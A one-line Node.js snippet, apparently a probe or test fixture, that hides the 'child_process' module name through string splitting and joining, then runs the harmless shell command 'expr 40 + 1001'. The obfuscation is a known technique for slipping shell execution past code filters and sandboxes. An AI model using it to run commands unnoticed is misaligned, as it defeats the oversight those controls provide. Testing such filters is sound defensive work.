require('child!process'.split('!').join('_')).execSync('expr 40 + 1001',{stdio:'inherit'});
